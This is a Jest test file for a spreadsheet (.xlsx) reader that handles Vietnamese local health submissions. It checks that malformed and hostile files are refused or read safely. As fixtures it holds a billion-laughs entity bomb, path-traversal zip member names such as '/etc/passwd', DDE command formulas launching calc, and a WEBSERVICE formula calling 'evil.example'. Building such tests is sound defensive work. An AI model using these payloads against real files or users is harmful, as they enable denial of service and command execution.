/**
 * Hostile and odd files, each made here part by part: the reader must refuse clearly or read in
 * bounded time, never hang, never crash, never take a value it cannot explain. Bounded time is
 * asserted by behaviour (what was cut, refused or read), never by a clock: heavy tests declare a
 * generous timeout instead, so a loaded machine cannot make them fail.
 */
import { makeZip, unzip } from "../adapters/xlsx/zip";
import type { ReadOutcome } from "../../src/core/submission/types";
import { miniXlsx, type MiniCell } from "./ooxml";
import { readAndValidate, readBytes, Y_TE, yTeSheet, yTeValue } from "./fixtures";

jest.setTimeout(120_000);

const enc = (s: string) => new TextEncoder().encode(s);
const SST_NS = `xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"`;

function ok(o: ReadOutcome) {
  if (!o.ok) throw new Error(`refused: ${o.refused.message.vi}`);
  return o;
}
function refused(o: ReadOutcome) {
  if (o.ok) throw new Error("expected a refusal");
  return o.refused;
}
const errors = (o: ReadOutcome) =>
  ok(o).submissions.flatMap((s) => s.validation.issues.filter((i) => i.severity === "error"));

const LAUGHS =
  `<!DOCTYPE lolz [<!ENTITY lol "lol">` +
  Array.from(
    { length: 9 },
    (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i === 0 ? "" : i};`.repeat(10)}">`
  ).join("") +
  `]>`;

describe("sizes and shapes", () => {
  test("a dimension of A1:XFD1048576 and one stray cell at XFD1048576: read fast, stray reported", async () => {
    const s = yTeSheet();
    s.dimension = "A1:XFD1048576";
    s.extra = [[1048576, 16384, "x"]];
    const o = ok(await readAndValidate(miniXlsx({ sheets: [s] })));
    const v = o.submissions[0]!.validation;
    expect(v.rows).toHaveLength(12);
    expect(v.issues.some((i) => i.rule === "sheet.truncated")).toBe(true);
  });

  test("10 000 columns on one row: read up to the column limit, the row is reported, not a crash", async () => {
    const s = yTeSheet();
    s.rows.push(Array.from({ length: 10_000 }, (_, i): MiniCell => i));
    const o = await readAndValidate(miniXlsx({ sheets: [s] }));
    expect(errors(o).every((i) => i.row === 14)).toBe(true);
    expect(errors(o).length).toBeGreaterThan(0);
  });

  test("a 30 MB shared strings part is read in bounded time", async () => {
    const big = "Phường Phú Bài ".repeat(20);
    const parts: string[] = [];
    for (let n = 0, size = 0; size < 30e6; n++) {
      const si = `<si><t>${big}${n}</t></si>`;
      parts.push(si);
      size += si.length;
    }
    const s = yTeSheet();
    s.rows[1]![Y_TE.columns.findIndex((c) => c.key === "ghiChu")] = { xml: "<v>7</v>", t: "s" };
    const bytes = miniXlsx({
      sheets: [s],
      sharedStringsXml: `<?xml version="1.0"?><sst ${SST_NS}>${parts.join("")}</sst>`,
    });
    const o = ok(await readAndValidate(bytes));
    expect(o.submissions[0]!.validation.rows[0]!.values.ghiChu).toBe(`${big}7`);
  });
});

describe("malicious archives and XML", () => {
  test.each([
    ["sharedStrings.xml", "sst"],
    ["workbook.xml", "wb"],
  ])("a billion-laughs entity bomb in %s is refused at once", async (_part, where) => {
    const s = yTeSheet();
    s.rows.push([{ shared: "x" }]);
    const bytes = miniXlsx({
      sheets: [s],
      sharedStringsXml:
        where === "sst"
          ? `<?xml version="1.0"?>${LAUGHS}<sst ${SST_NS}><si><t>&lol9;</t></si></sst>`
          : undefined,
      workbookXml:
        where === "wb"
          ? `<?xml version="1.0"?>${LAUGHS}<workbook ${SST_NS} xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="&lol9;" sheetId="1" r:id="rId1"/></sheets></workbook>`
          : undefined,
    });
    const r = refused(await readAndValidate(bytes, "bom.xlsx"));
    expect(r.reason).toBe("corrupt");
    expect(r.message.vi).toContain("Không đọc được tệp bom.xlsx");
  });

  test("members named ../../x or /etc/passwd are never extracted; the workbook still reads", async () => {
    const bytes = miniXlsx({
      sheets: [yTeSheet()],
      extraEntries: [
        { name: "../../x", data: enc("boom") },
        { name: "/etc/passwd", data: enc("x") },
      ],
    });
    const o = ok(await readAndValidate(bytes));
    expect(o.submissions[0]!.validation.rows).toHaveLength(12);
  });

  test("two members with the same name (a checked copy and a hidden one) are refused", async () => {
    const evil = miniXlsx({
      sheets: [
        yTeSheet({ value: (k, i, n, c) => (k === "soSinh" ? 999_999 : yTeValue(k, i, n, c)) }),
      ],
    });
    const evilSheet = unzip(evil).get("xl/worksheets/sheet1.xml")!;
    const bytes = miniXlsx({
      sheets: [yTeSheet()],
      extraEntries: [{ name: "XL/worksheets/sheet1.xml", data: enc(evilSheet) }],
    });
    const r = refused(await readAndValidate(bytes, "trung.xlsx"));
    expect(r.reason).toBe("corrupt");
    expect(r.message.vi).toContain("xuất hiện hai lần");
    expect(r.message.vi).toContain("Hãy mở tệp trong Excel, lưu lại rồi gửi lại");
  });

  test("a member whose central directory understates its size is refused before parsing", async () => {
    const bytes = miniXlsx({
      sheets: [yTeSheet()],
      extraEntries: [
        { name: "xl/media/a.bin", data: new Uint8Array(30 * 1024 * 1024), declaredSize: 100 },
      ],
    });
    const r = await readBytes(bytes, "noi-doi.xlsx");
    expect(r.ok).toBe(false);
    if (!r.ok) expect(r.refused.reason).toBe("too-large");
  });
});

describe("what spreadsheet programs other than Excel hand back", () => {
  test("an OpenDocument (.ods) file renamed .xlsx: told to save as .xlsx", async () => {
    const ods = makeZip([
      { name: "mimetype", data: enc("application/vnd.oasis.opendocument.spreadsheet") },
      { name: "content.xml", data: enc("<office:document-content/>") },
      { name: "META-INF/manifest.xml", data: enc("<manifest/>") },
    ]);
    const r = refused(await readAndValidate(ods, "y-te.xlsx"));
    expect(r.reason).toBe("not-xlsx");
    expect(r.message.vi).toContain("OpenDocument (.ods");
    expect(r.message.vi).toContain("Lưu thành");
  });

  test.each([
    [
      "an HTML table (web export)",
      "<html><body><table><tr><td>TT</td></tr></table></body></html>",
      "trang web (HTML)",
    ],
    [
      "an XML Spreadsheet 2003",
      `<?xml version="1.0"?><?mso-application progid="Excel.Sheet"?><Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet"></Workbook>`,
      "bảng tính XML 2003",
    ],
  ])("%s named .xlsx: told to save as a real .xlsx", async (_what, text, named) => {
    const r = refused(await readAndValidate(enc(text), "xuat-tu-web.xlsx"));
    expect(r.reason).toBe("not-xlsx");
    expect(r.message.vi).toContain(named);
    expect(r.message.vi).toContain("Lưu thành → Sổ làm việc Excel (.xlsx)");
  });

  test("an Excel binary workbook (.xlsb) is named as such", async () => {
    const xlsb = makeZip([
      { name: "[Content_Types].xml", data: enc("<Types/>") },
      { name: "xl/workbook.bin", data: new Uint8Array([0x83, 0x01, 0x00]) },
    ]);
    const r = refused(await readAndValidate(xlsb, "y-te.xlsb"));
    expect(r.reason).toBe("not-xlsx");
    expect(r.message.vi).toContain("(.xlsb)");
  });

  test("a CSV renamed .xlsx is refused as text", async () => {
    const csv = enc(`TT,"Xã, phường",Loại\n1,Phường Phú Bài,Phường\n`);
    const r = refused(await readAndValidate(csv, "y-te.xlsx"));
    expect(r.reason).toBe("not-xlsx");
    expect(r.message.vi).toContain("tệp văn bản");
  });
});

describe("cell contents", () => {
  const GHI_CHU = Y_TE.columns.findIndex((c) => c.key === "ghiChu");

  test("DDE and formula-looking text is read as text; formulas give their cached value", async () => {
    const dde = "=cmd|' /C calc'!A0";
    const s = yTeSheet({
      value: (k, i, n, c) => {
        if (k === "ghiChu" && i === 0) return dde;
        if (k === "ghiChu" && i === 1)
          return { formula: "cmd|' /C calc'!A0", cached: "x", type: "str" };
        if (k === "danSoTb" && i === 2)
          return { formula: 'WEBSERVICE("http://evil.example")', cached: 12345 };
        return yTeValue(k, i, n, c);
      },
    });
    const o = ok(await readAndValidate(miniXlsx({ sheets: [s] })));
    const rows = o.submissions[0]!.validation.rows;
    expect(rows[0]!.values.ghiChu).toBe(dde);
    expect(rows[1]!.values.ghiChu).toBe("x");
    expect(rows[2]!.values.danSoTb).toBe(12345);
  });

  test("a 32 767-character text is kept whole", async () => {
    const long = "Đ".repeat(32_767);
    const s = yTeSheet({
      value: (k, i, n, c) => (k === "ghiChu" && i === 0 ? long : yTeValue(k, i, n, c)),
    });
    const o = ok(await readAndValidate(miniXlsx({ sheets: [s] })));
    expect(o.submissions[0]!.validation.rows[0]!.values.ghiChu).toBe(long);
  });

  test("Excel's _xHHHH_ control escapes in shared strings count as spaces, so names still match", async () => {
    const s = yTeSheet({
      value: (k, i, n, c) => {
        if (k === "unitName" && i === 0) return { shared: "Phường_x0001_Phú_x001F_Bài_x000D_" };
        if (k === "unitCode" && i === 0) return null;
        if (k === "ghiChu" && i === 1) return { shared: "a_x0007_b" };
        return yTeValue(k, i, n, c);
      },
    });
    const o = ok(await readAndValidate(miniXlsx({ sheets: [s] })));
    const v = o.submissions[0]!.validation;
    expect(v.issues.filter((i) => i.severity === "error")).toEqual([]);
    expect(v.rows[0]!.unitCode).toBe("phuong-phu-bai");
    expect(v.rows[1]!.values.ghiChu).toBe("a b");
  });

  test("a raw control character or a lone surrogate in the XML: refused as damaged (as Excel does)", async () => {
    const s = yTeSheet();
    s.rows[1]![GHI_CHU] = { xml: "<is><t>a\u0001b</t></is>", t: "inlineStr" };
    expect(refused(await readAndValidate(miniXlsx({ sheets: [s] }))).reason).toBe("corrupt");
    s.rows[1]![GHI_CHU] = { xml: "<is><t>a&#xD800;b</t></is>", t: "inlineStr" };
    expect(refused(await readAndValidate(miniXlsx({ sheets: [s] }))).reason).toBe("corrupt");
  });
});

describe("a template sheet edited by hand", () => {
  const keys = Y_TE.columns.map((c) => c.key);

  test("cells merged over the data area: the covered cells are reported empty, not guessed", async () => {
    const s = yTeSheet();
    s.merges = ["E2:E4"];
    const o = await readAndValidate(miniXlsx({ sheets: [s] }));
    expect(
      errors(o)
        .map((i) => i.cell)
        .sort()
    ).toEqual(["E3", "E4"]);
    // …and the official is told why a cell that shows "Đạt" counts as empty.
    const note = ok(o).submissions[0]!.validation.issues.find((i) => i.rule === "cells.merged");
    expect(note?.severity).toBe("warning");
    expect(note?.message.vi).toContain("các ô E3, E4 đã bị gộp");
    expect(note?.message.vi).toContain("bỏ gộp ô");
  });

  test("hidden rows are still read", async () => {
    const s = yTeSheet();
    s.hiddenRows = [3, 4];
    const o = ok(await readAndValidate(miniXlsx({ sheets: [s] })));
    expect(o.submissions[0]!.validation.rows).toHaveLength(12);
  });

  test("a deleted required column is a clear refusal naming the column", async () => {
    const s = yTeSheet({ keys: keys.filter((k) => k !== "ytXaDat") });
    const r = refused(await readAndValidate(miniXlsx({ sheets: [s] })));
    expect(r.reason).toBe("missing-column");
    expect(r.message.vi).toContain('"Đạt Bộ tiêu chí QG y tế xã"');
  });

  test("columns reordered by hand still read by their headers", async () => {
    const o = ok(
      await readAndValidate(miniXlsx({ sheets: [yTeSheet({ keys: [...keys].reverse() })] }))
    );
    const v = o.submissions[0]!.validation;
    expect(v.issues.filter((i) => i.severity === "error")).toEqual([]);
    expect(v.rows[0]!.values.danSoTb).toBe(10_000);
  });

  test('unit names typed "P. Phú Bài", "PHƯỜNG THUỶ DƯƠNG", "phường  Thuỷ Châu " (no codes)', async () => {
    const names: Record<number, string> = {
      0: "P. Phú Bài",
      1: "phường  Thuỷ Châu ",
      2: "PHƯỜNG THUỶ DƯƠNG",
    };
    const s = yTeSheet({
      value: (k, i, n, c) =>
        k === "unitName" && names[i]
          ? names[i]
          : k === "unitCode" && i < 3
            ? null
            : yTeValue(k, i, n, c),
    });
    const o = ok(await readAndValidate(miniXlsx({ sheets: [s] })));
    const v = o.submissions[0]!.validation;
    expect(v.issues.filter((i) => i.severity === "error")).toEqual([]);
    expect(v.rows.slice(0, 3).map((r) => r.unitCode)).toEqual([
      "phuong-phu-bai",
      "phuong-thuy-chau",
      "phuong-thuy-duong",
    ]);
  });
});
